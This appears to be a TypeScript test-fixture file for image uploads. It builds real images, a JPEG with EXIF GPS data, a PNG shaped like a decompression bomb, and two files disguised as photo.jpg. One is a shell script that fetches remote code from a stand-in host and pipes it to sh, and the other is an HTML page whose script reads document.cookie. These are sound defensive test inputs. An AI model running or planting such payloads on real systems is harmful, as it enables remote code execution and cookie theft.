/**
 * Real images made with sharp for upload tests, and files that only
 * pretend to be images.
 */
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

type Format = 'jpeg' | 'png' | 'webp' | 'avif';

/** A `width`×`height` image in `format`, half transparent when `alpha`. */
export function makeImage(
  format: Format,
  width: number,
  height: number,
  options: { alpha?: boolean } = {},
): Promise<Buffer> {
  const background = options.alpha
    ? { r: 20, g: 90, b: 160, alpha: 0.5 }
    : { r: 160, g: 30, b: 40, alpha: 1 };
  return sharp({ create: { width, height, channels: options.alpha ? 4 : 3, background } })
    .toFormat(format)
    .toBuffer();
}

/**
 * A 100×60 JPEG stored on its side (EXIF orientation 6: upright it is
 * 60×100) with the camera's GPS position (Aleppo) and a copyright line.
 */
export function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 100, height: 60, channels: 3, background: '#3a6' } })
    .jpeg()
    .withExif({
      IFD0: { Copyright: 'Photographer Name', Make: 'PhoneMaker' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '36/1 12/1 0/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '37/1 9/1 0/1',
      },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/** True when an EXIF block points to a GPS IFD (tag 0x8825, either byte order). */
export function exifHasGps(exif: Buffer): boolean {
  return (
    exif.includes(Buffer.from([0x25, 0x88, 0x04, 0x00])) ||
    exif.includes(Buffer.from([0x88, 0x25, 0x00, 0x04]))
  );
}

/**
 * A PNG claiming `width`×`height` pixels with a few bytes of pixel data:
 * the shape of a decompression bomb.
 */
export function pngHeaderOnly(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(Buffer.alloc(64))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A shell script, as an attacker would name it `photo.jpg`. */
export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl -s https://evil.example/x | sh\n');
/** An HTML page with a script, as an attacker would name it `photo.jpg`. */
export const HTML_PAGE = Buffer.from(
  '<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n',
);
